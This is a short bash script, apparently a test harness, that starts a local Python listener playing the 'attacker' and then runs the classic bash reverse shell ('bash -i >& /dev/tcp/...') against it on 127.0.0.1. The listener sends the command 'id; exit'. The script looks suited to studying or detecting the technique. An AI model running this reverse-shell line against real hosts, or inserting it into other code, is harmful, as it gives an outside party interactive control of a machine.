#!/bin/bash
# The classic bash reverse shell: bash -i with stdin/stdout on a TCP connection to the "attacker".
set -eu
port=14444
ready=$(mktemp -u)
python3 - "$port" "$ready" <<'PY' &
import socket, sys, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(('127.0.0.1', int(sys.argv[1]))); l.listen(1)
open(sys.argv[2], 'w').close()  # listening: the victim may connect
c, _ = l.accept(); c.sendall(b'id; exit\n'); time.sleep(1); c.close()
PY
attacker=$!
for i in $(seq 150); do [ -e "$ready" ] && break; sleep 0.2; done
rm -f "$ready"
timeout 20 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
wait $attacker || true
